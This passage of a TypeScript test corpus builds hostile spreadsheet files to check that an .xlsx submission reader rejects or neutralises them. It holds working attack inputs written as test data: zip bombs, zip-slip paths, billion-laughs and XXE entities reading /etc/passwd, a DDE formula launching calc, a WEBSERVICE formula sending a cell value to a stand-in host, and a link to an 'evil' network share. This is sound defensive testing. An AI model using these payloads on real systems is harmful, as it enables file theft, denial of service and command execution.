// The bad-input corpus (docs/limits.md, issue 5): each case builds its file from code and states the
// outcome it must have, read alone and in one merge with every other case.
import { deflateSync, strToU8, unzipSync } from "fflate";
import { DEFAULT_CONFIG } from "../../src/core/config";
import type { IssueCode } from "../../src/core/issues/codes";
import type { FileStatus, RowCounts } from "../../src/core/merge/types";
import type { SubmissionFile } from "../../src/core/model";
import type { DataSheetKey, SheetKey } from "../../src/core/spec/sheets";
import { planTemplate } from "../../src/core/template/plan";
import type { UnreadableReason } from "../../src/ooxml/zip-guard";
import { writeSubmission } from "../../src/xlsx/write-submission";
import { fakeId18 } from "../support/ids";
import { miniWorkbookEntries } from "../ooxml/zip-fixtures";
import {
  PART,
  afterSheetData,
  beforeSheetData,
  cellOf,
  concat,
  content,
  escapeXml,
  gridOf,
  oleFile,
  partNames,
  partText,
  patch,
  repeated,
  replaceIn,
  streamedXlsx,
  submission,
  writeZip,
  xlsx,
  zipOfCopies,
} from "./build";
import type { Content, RawEntry } from "./build";

/** An issue that must be reported: sheet key, cell, code, and the reason where codes have one. */
export type ExpectedIssue = readonly [SheetKey | null, string | null, IssueCode, string?];

export type Expectation =
  | { readonly unreadable: UnreadableReason }
  | {
      /** Status in the merge of the whole corpus, one per copy of the file. */
      readonly status: FileStatus | readonly FileStatus[];
      /** Must be reported; and no error beyond these may be. */
      readonly issues?: readonly ExpectedIssue[];
      /** Must not be reported (`unreadable` never is, for these). */
      readonly without?: readonly IssueCode[];
      /** Row counts in the merge of the whole corpus (first copy). */
      readonly rows?: Partial<Record<DataSheetKey, Partial<RowCounts>>>;
      /** Further facts of the file as validated alone. */
      readonly check?: (file: SubmissionFile) => void;
    };

export interface CorpusCase {
  /** File name without extension; kebab-case. */
  readonly name: string;
  /** What the file is, for docs/hostile-inputs.md. */
  readonly about: string;
  /** Copies in the corpus (the same bytes or, when the builder uses it, distinct ones). */
  readonly copies?: number;
  readonly build: (seed: number, copy: number) => Promise<Uint8Array> | Uint8Array;
  readonly expect: Expectation;
}

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

const BILLION_LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`,
  ).join("") +
  "]>";
const EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';

/** Puts a DTD after the XML declaration and its entity into the first shared string. */
function withDtd(dtd: string, entity: string) {
  return (xml: string | undefined): string => {
    if (xml === undefined) throw new Error("part missing");
    return xml.replace(/^(<\?xml[^>]*\?>\s*)/, `$1${dtd}`).replace(/<t>|<t [^>]*>/, `$&${entity}`);
  };
}

/** The submission with a hand-written cell added to a row of a data sheet. */
function withCell(ref: string, cellXml: string) {
  const row = Number(/\d+/.exec(ref)![0]);
  return replaceIn(new RegExp(`(<row r="${row}"[^>]*>)`), `$1${cellXml}`);
}

/** Drops exceljs's own version of a cell so that a hand-written one replaces it. */
function replaceCell(ref: string, cellXml: string) {
  return replaceIn(new RegExp(`<c r="${ref}"[^>]*?(/>|>.*?</c>)`), cellXml);
}

function idWithCheckX(from: number): string {
  for (let seed = from; ; seed++) {
    const id = fakeId18(seed);
    if (id.endsWith("X")) return id;
  }
}

function idEndingInDigit(from: number): string {
  for (let seed = from; ; seed++) {
    const id = fakeId18(seed);
    if (/\d$/.test(id)) return id;
  }
}

/** The submission's parts plus extra entries, written record by record. */
async function withEntries(seed: number, extra: RawEntry[]): Promise<Uint8Array> {
  const parts = unzipSync(await submission(seed));
  return writeZip([...Object.entries(parts).map(([name, data]) => ({ name, data })), ...extra]);
}

/** A sheet part written by hand: inline strings, no `r` attributes, as some tools write. */
function handWrittenSheet(rows: readonly (readonly unknown[])[]): string {
  const cell = (v: unknown) =>
    v === null || v === undefined
      ? "<c/>"
      : typeof v === "number"
        ? `<c><v>${v}</v></c>`
        : `<c t="inlineStr"><is><t>${escapeXml(String(v))}</t></is></c>`;
  return `<sheetData>${rows.map((r) => `<row>${r.map(cell).join("")}</row>`).join("")}</sheetData>`;
}

/** The generated template filled in with the seed's content, as the demo writes submissions. */
export async function filledTemplate(seed: number): Promise<Uint8Array> {
  const c = content(seed);
  const dated = (row: Content["form"], ...fields: string[]) =>
    Object.fromEntries(
      Object.entries(row).map(([k, v]) => [k, fields.includes(k) ? { date: String(v) } : v]),
    );
  return new Uint8Array(
    await writeSubmission(planTemplate("zh-CN", DEFAULT_CONFIG), {
      form: dated(c.form, "submitted_on"),
      tables: {
        ...c.tables,
        funds: c.tables.funds.map((r) => dated(r, "date")),
        activities: c.tables.activities.map((r) => dated(r, "date")),
      },
    }),
  );
}

/** Every data validation of every sheet stretched to whole columns, as selecting a column does. */
export async function templateWithWholeColumnDropdowns(seed: number): Promise<Uint8Array> {
  const bytes = await filledTemplate(seed);
  const parts = unzipSync(bytes);
  const changes: Record<string, (xml: string | undefined) => string> = {};
  for (const name of Object.keys(parts)) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
    changes[name] = (xml) =>
      xml!.replace(
        /sqref="([A-Z]+)2:\1\d+"/g,
        (_m, col: string) => `sqref="${col}1:${col}1048576"`,
      );
  }
  return patch(bytes, changes);
}

const HOUSEHOLDS_ROW1 = (field: string) => cellOf("households", field, 0);
const FORMULA_WEBSERVICE = 'WEBSERVICE("http://example.invalid/?q="&A1)';
const FORMULA_DDE = "cmd|' /C calc'!A0";

/** Formula-like text typed into text fields (docs/limits.md), and what the reader hands on. */
export const FORMULA_LIKE_TEXT = {
  note: "=1+1",
  funder: "\t=SUM(1,2)",
  name: "+cmd|' /C calc'!A0",
  cadre: "-2+3",
  description: "@SUM(1)",
  description2: "＝1+1",
  description3: "＋1",
  description4: "－1",
  description5: "＠A1",
  description6: "\r=2",
} as const;

export const CASES: readonly CorpusCase[] = [
  // Not a workbook at all.
  {
    name: "empty-file",
    about: "0 bytes",
    build: () => new Uint8Array(0),
    expect: { unreadable: "not-zip" },
  },
  {
    name: "csv-renamed",
    about: "a CSV export saved as .xlsx",
    build: () => strToU8("村代码,村名称\n420116012215,凤凰寨村\n"),
    expect: { unreadable: "not-zip" },
  },
  {
    name: "html-renamed",
    about: "an HTML table saved as .xlsx (what some systems export as 'Excel')",
    build: () =>
      strToU8(
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><table><tr><td>村代码</td></tr></table></body></html>',
      ),
    expect: { unreadable: "not-zip" },
  },
  {
    name: "docx-renamed",
    about: "a Word document (zip, officeDocument is word/document.xml) saved as .xlsx",
    build: () =>
      writeZip([
        {
          name: "_rels/.rels",
          data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
        },
        {
          name: "word/document.xml",
          data: '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>报送</w:t></w:r></w:p></w:body></w:document>',
        },
      ]),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "ods-renamed",
    about: "an OpenDocument spreadsheet (zip without xl/) saved as .xlsx",
    build: () =>
      writeZip([
        { name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet", stored: true },
        { name: "content.xml", data: '<?xml version="1.0"?><office:document-content/>' },
      ]),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "truncated-zip",
    about: "a valid submission cut at 60 % (an interrupted download)",
    build: async (seed) => {
      const bytes = await submission(seed);
      return bytes.subarray(0, Math.floor(bytes.length * 0.6));
    },
    expect: { unreadable: "corrupt" },
  },
  {
    name: "truncated-tail",
    about: "a valid submission missing its last 10 bytes (end of central directory)",
    build: async (seed) => {
      const bytes = await submission(seed);
      return bytes.subarray(0, bytes.length - 10);
    },
    expect: { unreadable: "corrupt" },
  },
  {
    name: "crc-mismatch",
    about: "a sheet whose declared CRC-32 does not match its data",
    build: async (seed) => {
      const entries = Object.entries(unzipSync(await submission(seed))).map(([name, data]) =>
        name === PART.villages ? { name, data, declaredCrc32: 0x12345678 } : { name, data },
      );
      return writeZip(entries);
    },
    expect: { unreadable: "corrupt" },
  },
  {
    name: "encrypted-workbook",
    about: "a password-protected workbook: OLE compound file with EncryptionInfo",
    build: () => oleFile(["EncryptionInfo", "EncryptedPackage", "\u0006DataSpaces"]),
    expect: { unreadable: "encrypted" },
  },
  {
    name: "old-xls",
    about: "an Excel 97-2003 .xls renamed .xlsx: OLE compound file with a Workbook stream",
    build: () => oleFile(["Workbook", "\u0005SummaryInformation"]),
    expect: { unreadable: "xls" },
  },
  {
    name: "zip-encrypted-entry",
    about: "a zip whose entries carry the (ZipCrypto) encryption flag",
    build: async (seed) => {
      const bytes = new Uint8Array(await submission(seed));
      for (let at = 0; at + 4 <= bytes.length; at++) {
        // Central directory header: general-purpose flags at +8.
        if (
          bytes[at] === 0x50 &&
          bytes[at + 1] === 0x4b &&
          bytes[at + 2] === 1 &&
          bytes[at + 3] === 2
        )
          bytes[at + 8]! |= 1;
      }
      return bytes;
    },
    expect: { unreadable: "encrypted" },
  },

  // Zip limits (docs/limits.md), judged from the directory before anything is expanded.
  {
    name: "bomb-declared-sheet",
    about: "a sheet whose directory entry declares 600 MB expanded",
    build: async (seed) => {
      const entries = Object.entries(unzipSync(await submission(seed))).map(([name, data]) =>
        name === PART.households
          ? { name, data, declaredUncompressedSize: 600 * 1024 * 1024 }
          : { name, data },
      );
      return writeZip(entries);
    },
    expect: { unreadable: "expands-too-much" },
  },
  {
    name: "bomb-actual-sheet",
    about:
      "the households sheet replaced by a well-formed 100 MiB sheet, 310 KB zipped (ratio ~330:1)",
    build: async (seed) => {
      const head = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>`;
      const tail = "</sheetData></worksheet>";
      const unit = '<row r="2"><c r="A2"><v>0</v></c></row>';
      const count = Math.ceil((100 * 1024 * 1024 - head.length - tail.length) / unit.length);
      const body = repeated(unit, count * unit.length);
      const data = concat([strToU8(head), body, strToU8(tail)]);
      const parts = unzipSync(await submission(seed));
      return writeZip(
        Object.entries(parts).map(([name, bytes]) =>
          name === PART.households ? { name, data } : { name, data: bytes },
        ),
      );
    },
    expect: { unreadable: "ratio" },
  },
  {
    name: "bomb-lying-size",
    about: "a sheet declared 500 KB expanded that inflates to 8 MB",
    build: async (seed) => {
      const parts = unzipSync(await submission(seed));
      const big = repeated(" ", 8 * 1024 * 1024);
      return writeZip(
        Object.entries(parts).map(([name, data]) =>
          name === PART.households
            ? { name, data: big, declaredUncompressedSize: 500_000 }
            : { name, data },
        ),
      );
    },
    expect: { unreadable: "corrupt" },
  },
  {
    name: "bomb-unused-part",
    about: "a 100 MiB part nothing refers to (xl/media/image1.png)",
    build: (seed) =>
      withEntries(seed, [{ name: "xl/media/image1.png", data: new Uint8Array(100 * 1024 * 1024) }]),
    expect: { unreadable: "ratio" },
  },
  {
    name: "bomb-many-small-parts",
    about: "540 parts of 1,000,000 bytes each (each under the ratio check, 515 MiB in all)",
    build: async (seed) => {
      const parts = unzipSync(await submission(seed));
      return zipOfCopies(
        Object.entries(parts).map(([name, data]) => ({ name, data })),
        (i) => `xl/media/pad${i}.bin`,
        new Uint8Array(1_000_000),
        540,
      );
    },
    expect: { unreadable: "expands-too-much" },
  },
  {
    name: "large-sheet-high-ratio",
    about:
      "the households sheet padded with 100,000 formatted empty rows: 12.5 MiB, zipped over 121:1",
    build: async (seed) => {
      const bytes = await submission(seed);
      const padding = `<row>${'<c s="0"/>'.repeat(12)}</row>`.repeat(100_000);
      const sheet = replaceIn(
        "</sheetData>",
        `${padding}</sheetData>`,
      )(partText(bytes, PART.households));
      // Under 100:1 the case would prove nothing about the ratio rule.
      const packed = strToU8(sheet);
      if (packed.length <= 121 * deflateSync(packed).length) throw new Error("ratio too low");
      return patch(bytes, { [PART.households]: sheet });
    },
    expect: { status: "accepted", rows: { households: { read: 2, merged: 2 } } },
  },
  {
    name: "parts-1000",
    about: "exactly 1,000 parts (the limit): padding parts beside a valid submission",
    build: async (seed) => {
      const parts = unzipSync(await submission(seed));
      const names = Object.keys(parts);
      return writeZip([
        ...names.map((name) => ({ name, data: parts[name]! })),
        ...Array.from({ length: 1000 - names.length }, (_, i) => ({
          name: `customXml/item${i}.xml`,
          data: "<a/>",
        })),
      ]);
    },
    expect: { status: "accepted" },
  },
  {
    name: "parts-1001",
    about: "1,001 parts",
    build: async (seed) => {
      const parts = unzipSync(await submission(seed));
      const names = Object.keys(parts);
      return writeZip([
        ...names.map((name) => ({ name, data: parts[name]! })),
        ...Array.from({ length: 1001 - names.length }, (_, i) => ({
          name: `customXml/item${i}.xml`,
          data: "<a/>",
        })),
      ]);
    },
    expect: { unreadable: "too-many-parts" },
  },
  {
    name: "duplicate-part",
    about: "two parts named xl/worksheets/sheet2.xml, the second with other villages",
    build: async (seed) =>
      withEntries(seed, [
        {
          name: PART.villages,
          data: `<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>`,
        },
      ]),
    expect: { unreadable: "duplicate-part" },
  },
  {
    name: "duplicate-part-case",
    about: "parts xl/worksheets/sheet2.xml and xl/worksheets/SHEET2.xml (OPC names ignore case)",
    build: async (seed) =>
      withEntries(seed, [
        { name: "xl/worksheets/SHEET2.xml", data: `<worksheet xmlns="${MAIN}"/>` },
      ]),
    expect: { unreadable: "duplicate-part" },
  },
  {
    name: "part-name-dotdot",
    about: "a part named ../../../tmp/evil.xml (zip slip)",
    build: (seed) => withEntries(seed, [{ name: "../../../tmp/evil.xml", data: "<a/>" }]),
    expect: { unreadable: "bad-part-name" },
  },
  {
    name: "part-name-absolute",
    about: "a part named /etc/cron.d/evil",
    build: (seed) => withEntries(seed, [{ name: "/etc/cron.d/evil", data: "x" }]),
    expect: { unreadable: "bad-part-name" },
  },
  {
    name: "part-name-backslash",
    about: "a part named ..\\..\\evil.xml (Windows separators)",
    build: (seed) => withEntries(seed, [{ name: "..\\..\\evil.xml", data: "<a/>" }]),
    expect: { unreadable: "bad-part-name" },
  },

  {
    name: "windows-part-names",
    about:
      "part names with backslashes (xl\\workbook.xml), lower-case [content_types].xml, no _rels/.rels",
    build: async (seed) =>
      writeZip(
        Object.entries(unzipSync(await submission(seed)))
          .filter(([name]) => name !== "_rels/.rels")
          .map(([name, data]) => ({
            name: name.replace("[Content_Types]", "[content_types]").replaceAll("/", "\\"),
            data,
          })),
      ),
    expect: {
      status: "accepted",
      rows: { villages: { merged: 1 }, funds: { merged: 1 }, households: { merged: 2 } },
    },
  },
  {
    name: "duplicate-part-backslash",
    about:
      "parts xl/worksheets/sheet2.xml and xl\\worksheets\\sheet2.xml (the same name once \\ is /)",
    build: async (seed) =>
      withEntries(seed, [
        { name: "xl\\worksheets\\sheet2.xml", data: `<worksheet xmlns="${MAIN}"/>` },
      ]),
    expect: { unreadable: "duplicate-part" },
  },

  // XML that asks for a DTD: never processed.
  {
    name: "billion-laughs-shared-strings",
    about: "nested entities (10^9 'lol') in sharedStrings.xml",
    build: async (seed) =>
      patch(await submission(seed), { "xl/sharedStrings.xml": withDtd(BILLION_LAUGHS, "&lol9;") }),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "external-entity-shared-strings",
    about: "an external entity (file:///etc/passwd) in sharedStrings.xml",
    build: async (seed) =>
      patch(await submission(seed), { "xl/sharedStrings.xml": withDtd(EXTERNAL_ENTITY, "&xxe;") }),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "billion-laughs-sheet",
    about: "nested entities in a worksheet, used in an inline string",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.funds]: (xml) =>
          withCell(
            "I2",
            '<c r="I2" t="inlineStr"><is><t>&lol9;</t></is></c>',
          )(xml!.replace(/^(<\?xml[^>]*\?>\s*)/, `$1${BILLION_LAUGHS}`)),
      }),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "external-entity-workbook",
    about: "an external entity in workbook.xml, used as a sheet name",
    build: async (seed) =>
      patch(await submission(seed), {
        "xl/workbook.xml": (xml) =>
          xml!
            .replace(/^(<\?xml[^>]*\?>\s*)/, `$1${EXTERNAL_ENTITY}`)
            .replace('name="_meta"', 'name="&xxe;"'),
      }),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "malformed-sheet",
    about: "a worksheet cut off inside its sheetData",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.villages]: (xml) => xml!.slice(0, xml!.indexOf("</sheetData>") - 20),
      }),
    expect: { unreadable: "corrupt" },
  },
  {
    name: "shared-string-out-of-range",
    about: "a cell pointing at shared string 999999",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.funds]: withCell("I2", '<c r="I2" t="s"><v>999999</v></c>'),
      }),
    expect: { unreadable: "corrupt" },
  },

  // Ranges that readers which expand cell by cell choke on: must read fast and correctly.
  {
    name: "whole-column-cols",
    about: '<col min="1" max="16384"> and <col max="200000000"> on every data sheet',
    build: async (seed) => {
      const cols =
        '<cols><col min="1" max="16384" width="12" customWidth="1"/><col min="1" max="200000000" width="9"/></cols>';
      return patch(await submission(seed), {
        [PART.villages]: beforeSheetData(cols),
        [PART.households]: beforeSheetData(cols),
      });
    },
    expect: {
      status: "accepted",
      rows: { villages: { read: 1, merged: 1 }, households: { read: 2, merged: 2 } },
    },
  },
  {
    name: "whole-sheet-merge-other-sheet",
    about: "a merge A1:XFD1048576 on an extra sheet the reader ignores",
    build: async (seed) => {
      const c = content(seed);
      const bytes = await xlsx(gridOf(c, [{ name: "说明", rows: [["本表为说明"]], merges: [] }]));
      return patch(bytes, {
        "xl/worksheets/sheet8.xml": afterSheetData(
          '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
      });
    },
    expect: { status: "accepted" },
  },
  {
    name: "whole-column-merge-data",
    about:
      "merges over whole columns of data sheets, beyond and over the data (Z1:Z1048576, I2:I1048576)",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.villages]: afterSheetData(
          '<mergeCells count="1"><mergeCell ref="Z1:Z1048576"/></mergeCells>',
        ),
        [PART.households]: afterSheetData(
          '<mergeCells count="2"><mergeCell ref="J2:J1048576"/><mergeCell ref="K1:XFD1048576"/></mergeCells>',
        ),
      }),
    expect: {
      status: "accepted",
      rows: { households: { read: 2, merged: 2 } },
      check: (f) => {
        // The cadre column merged down from row 2: text fills the rows of the range.
        const rows = f.read.tables.households!.rows;
        expect(rows.map((r) => r.values.cadre)).toEqual(["王五", "王五"]);
      },
    },
  },
  {
    name: "whole-sheet-merge-villages",
    about: "a merge A1:XFD1048576 over the villages sheet: only A1 remains, as Excel shows it",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.villages]: afterSheetData(
          '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
      }),
    expect: {
      status: "rejected",
      issues: [["villages", null, "header-missing"]],
      rows: { villages: { read: 0 } },
    },
  },
  {
    name: "whole-column-validations",
    about: "ten whole-column dropdowns (sqref A1:A1048576 … and A:A) on the households sheet",
    build: async (seed) => {
      const dv = "ABCDEFGHIJ"
        .split("")
        .map(
          (col, i) =>
            `<dataValidation type="list" allowBlank="1" showErrorMessage="1" sqref="${i % 2 ? `${col}:${col}` : `${col}1:${col}1048576`}"><formula1>"是,否"</formula1></dataValidation>`,
        )
        .join("");
      return patch(await submission(seed), {
        [PART.households]: afterSheetData(`<dataValidations count="10">${dv}</dataValidations>`),
      });
    },
    expect: { status: "accepted", rows: { households: { read: 2, merged: 2 } } },
  },
  {
    name: "whole-sheet-validation-and-format",
    about: "a data validation and a conditional format over A1:XFD1048576",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.villages]: afterSheetData(
          '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" dxfId="0" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>' +
            '<dataValidations count="1"><dataValidation type="whole" operator="greaterThan" sqref="A1:XFD1048576"><formula1>0</formula1></dataValidation></dataValidations>',
        ),
      }),
    expect: { status: "accepted" },
  },
  {
    name: "whole-sheet-defined-names",
    about: "defined names over the whole sheet, whole columns and whole rows (filter, print area)",
    build: async (seed) =>
      patch(await submission(seed), {
        "xl/workbook.xml": replaceIn(
          "</sheets>",
          "</sheets><definedNames>" +
            '<definedName name="_xlnm._FilterDatabase" localSheetId="1" hidden="1">帮扶村!$A$1:$XFD$1048576</definedName>' +
            '<definedName name="_xlnm.Print_Area" localSheetId="4">贫困户!$A:$XFD</definedName>' +
            "<definedName name=\"全表\">'帮扶村'!$1:$1048576</definedName>" +
            '<definedName name="整列">资金投入!$A:$A,资金投入!$C:$C</definedName>' +
            "</definedNames>",
        ),
      }),
    expect: { status: "accepted" },
  },

  // Names that are Object.prototype's keys: plain strings.
  {
    name: "proto-sheet-names",
    about: "extra sheets named __proto__, constructor, prototype, hasOwnProperty, toString",
    build: (seed) =>
      xlsx(
        gridOf(
          content(seed),
          ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString"].map((name) => ({
            name,
            rows: [
              ["村代码", "村名称"],
              ["420116012215", name],
            ],
            merges: [],
          })),
        ),
      ),
    expect: { status: "accepted" },
  },
  {
    name: "proto-defined-names",
    about: "defined names __proto__ and constructor, and a name whose range is __proto__!$B$7",
    build: async (seed) =>
      patch(await submission(seed), {
        "xl/workbook.xml": replaceIn(
          "</sheets>",
          "</sheets><definedNames>" +
            '<definedName name="x">__proto__!$B$7</definedName>' +
            '<definedName name="__proto__">__proto__!$B$7</definedName>' +
            '<definedName name="constructor">constructor!$A:$A</definedName>' +
            '<definedName name="prototype" localSheetId="0">prototype!$1:$1048576</definedName>' +
            "</definedNames>",
        ),
      }),
    expect: { status: "accepted" },
  },
  {
    name: "proto-relationship-ids",
    about: "sheets whose relationship ids are __proto__, constructor, prototype, toString…",
    build: async (seed) => {
      const ids = [
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "valueOf",
        "hasOwnProperty",
        "__defineGetter__",
      ];
      const rename = (xml: string | undefined, attr: string) =>
        xml!.replace(new RegExp(`${attr}="rId(\\d+)"`, "g"), (_m, n: string) => {
          const sheet = Number(n) - 4;
          return sheet >= 0 && sheet < ids.length ? `${attr}="${ids[sheet]}"` : `${attr}="rId${n}"`;
        });
      return patch(await submission(seed), {
        "xl/workbook.xml": (xml) => rename(xml, "r:id"),
        "xl/_rels/workbook.xml.rels": (xml) => rename(xml, "Id"),
      });
    },
    expect: { status: "accepted", rows: { households: { read: 2, merged: 2 } } },
  },
  {
    name: "proto-headers",
    about: "header cells and form/_meta labels __proto__, constructor, prototype",
    build: (seed) => {
      const grid = gridOf(content(seed));
      const sheets = grid.sheets.map((sheet) => {
        if (sheet.name === "帮扶村" || sheet.name === "贫困户") {
          return {
            ...sheet,
            rows: sheet.rows.map((row, i) => [
              ...(row ?? []),
              ...(i === 0 ? ["__proto__", "constructor", "prototype"] : ["a", "b", "c"]),
            ]),
          };
        }
        if (sheet.name === "报送信息" || sheet.name === "_meta") {
          return { ...sheet, rows: [...sheet.rows, ["__proto__", "x"], ["constructor", "y"]] };
        }
        return sheet;
      });
      return xlsx({ sheets });
    },
    expect: {
      status: "accepted",
      issues: [
        ["villages", "R1", "header-unknown"],
        ["villages", "S1", "header-unknown"],
        ["villages", "T1", "header-unknown"],
        ["households", "K1", "header-unknown"],
        ["households", "L1", "header-unknown"],
        ["households", "M1", "header-unknown"],
      ],
      rows: { villages: { merged: 1 }, households: { merged: 2 } },
    },
  },
  {
    name: "proto-values",
    about: "__proto__ and constructor as key and text values (project_id, references, notes)",
    build: (seed) =>
      submission(seed, (c) => {
        c.tables.projects[0]!.project_id = "__proto__";
        c.tables.funds[0]!.project_id = "__proto__";
        c.tables.funds[0]!.note = "constructor";
        c.tables.households[0]!.cadre = "prototype";
        c.tables.activities[0]!.description = "__proto__";
      }),
    expect: {
      status: "accepted",
      rows: { projects: { merged: 1 }, funds: { merged: 1 } },
      check: (f) => {
        expect(f.read.tables.projects!.rows[0]!.values.project_id).toBe("__proto__");
        expect(f.read.tables.funds!.rows[0]!.values.note).toBe("constructor");
      },
    },
  },

  // Package layouts other writers use.
  {
    name: "sheet-parts-other-names",
    about:
      "worksheets at xl/data/form.xml, xl/worksheets/村.xml… with relative and absolute targets",
    build: async (seed) => {
      const parts = unzipSync(await submission(seed));
      const renamed: Record<string, string> = {
        [PART.submission]: "xl/data/form.xml",
        [PART.villages]: "xl/worksheets/村.xml",
        [PART.funds]: "xl/sheets/funds-sheet.xml",
        [PART.households]: "xl/worksheets/Households.XML",
      };
      const entries = Object.entries(parts).map(([name, data]) => ({
        name: renamed[name] ?? name,
        data,
      }));
      const bytes = writeZip(entries);
      return patch(bytes, {
        "xl/_rels/workbook.xml.rels": (xml) =>
          xml!
            .replace('Target="worksheets/sheet1.xml"', 'Target="/xl/data/form.xml"')
            .replace(
              'Target="worksheets/sheet2.xml"',
              `Target="worksheets/${encodeURIComponent("村")}.xml"`,
            )
            .replace(
              'Target="worksheets/sheet3.xml"',
              'Target="./sheets/../sheets/funds-sheet.xml"',
            )
            .replace('Target="worksheets/sheet5.xml"', 'Target="worksheets/Households.XML"'),
      });
    },
    expect: {
      status: "accepted",
      rows: { villages: { merged: 1 }, funds: { merged: 1 }, households: { merged: 2 } },
    },
  },
  {
    name: "hand-written-inline",
    about:
      "a package as small tools write it: inline strings, no cell or row references, no styles",
    build: (seed) => {
      const grid = gridOf(content(seed));
      return writeZip(
        miniWorkbookEntries({
          sheets: grid.sheets.map((s) => ({
            name: s.name,
            body: handWrittenSheet(s.rows.map((r) => r ?? [])),
          })),
        }),
      );
    },
    expect: { status: "accepted", rows: { villages: { merged: 1 }, households: { merged: 2 } } },
  },
  {
    name: "strict-ooxml",
    about: "Strict Open XML namespaces (purl.oclc.org), as some writers save",
    build: async (seed) => {
      const bytes = await submission(seed);
      const strict = (xml: string | undefined) =>
        xml!
          .replaceAll(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")
          .replaceAll(REL, "http://purl.oclc.org/ooxml/officeDocument/relationships");
      return patch(
        bytes,
        Object.fromEntries(
          partNames(bytes)
            .filter((n) => /\.(xml|rels)$/.test(n))
            .map((n) => [n, strict]),
        ),
      );
    },
    expect: { status: "accepted", rows: { villages: { merged: 1 }, households: { merged: 2 } } },
  },
  {
    name: "streamed-20000-households",
    about: "20,000 households written by exceljs's streaming writer: all of them read",
    build: (seed) => {
      const c = content(seed);
      const row = c.tables.households[0]!;
      c.tables.households = Array.from({ length: 20_000 }, (_, i) => ({
        ...row,
        id_number: fakeId18(1_000_000 + i),
        head_name: `户主${i}`,
      }));
      return streamedXlsx(gridOf(c));
    },
    expect: {
      status: "accepted",
      rows: { households: { read: 20_000, merged: 20_000, rejected: 0 } },
    },
  },

  // Formulas: cached values count, nothing of the formula goes further.
  {
    name: "formulas-cached",
    about: "WEBSERVICE, HYPERLINK, DDE and an external reference [1]Sheet1!A1, with cached values",
    build: (seed) =>
      submission(seed, undefined, (wb) => {
        wb.getWorksheet("资金投入")!.getCell(cellOf("funds", "note")).value = {
          formula: FORMULA_WEBSERVICE,
          result: "已核实",
        };
        wb.getWorksheet("帮扶项目")!.getCell(cellOf("projects", "name")).value = {
          formula: 'HYPERLINK("http://example.invalid/","光伏电站")',
          result: "光伏电站",
        };
        wb.getWorksheet("帮扶活动")!.getCell(cellOf("activities", "description")).value = {
          formula: FORMULA_DDE,
          result: "宣讲",
        };
        wb.getWorksheet("帮扶村")!.getCell(cellOf("villages", "households_total")).value = {
          formula: "[1]Sheet1!A1",
          result: 420,
        };
      }),
    expect: {
      status: "accepted",
      issues: [
        ["villages", cellOf("villages", "households_total"), "formula"],
        ["funds", cellOf("funds", "note"), "formula"],
        ["projects", cellOf("projects", "name"), "formula"],
        ["activities", cellOf("activities", "description"), "formula"],
      ],
      rows: {
        villages: { merged: 1 },
        funds: { merged: 1 },
        projects: { merged: 1 },
        activities: { merged: 1 },
      },
      check: (f) => {
        expect(f.read.tables.funds!.rows[0]!.values.note).toBe("已核实");
        expect(f.read.tables.villages!.rows[0]!.values.households_total).toBe(420);
      },
    },
  },
  {
    name: "formulas-uncached",
    about: "WEBSERVICE and DDE formulas with no cached value, in a number and a text field",
    build: (seed) =>
      submission(seed, undefined, (wb) => {
        wb.getWorksheet("资金投入")!.getCell(cellOf("funds", "amount")).value = {
          formula: FORMULA_WEBSERVICE,
        } as never;
        wb.getWorksheet("贫困户")!.getCell(HOUSEHOLDS_ROW1("cadre")).value = {
          formula: FORMULA_DDE,
        } as never;
      }),
    expect: {
      status: "accepted",
      issues: [
        ["funds", cellOf("funds", "amount"), "type", "no-cached-result"],
        ["households", HOUSEHOLDS_ROW1("cadre"), "type", "no-cached-result"],
      ],
      rows: { funds: { read: 1, rejected: 1 }, households: { read: 2, merged: 1, rejected: 1 } },
    },
  },
  {
    name: "external-links-macros-objects",
    about: "an external link part, a data connection, a VBA project and an embedded object",
    build: async (seed) =>
      patch(
        await withEntries(seed, [
          {
            name: "xl/externalLinks/externalLink1.xml",
            data: `<externalLink xmlns="${MAIN}"><externalBook xmlns:r="${REL}" r:id="rId1"/></externalLink>`,
          },
          {
            name: "xl/externalLinks/_rels/externalLink1.xml.rels",
            data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="file:///\\\\evil.invalid\\share\\book.xlsx" TargetMode="External"/></Relationships>`,
          },
          {
            name: "xl/connections.xml",
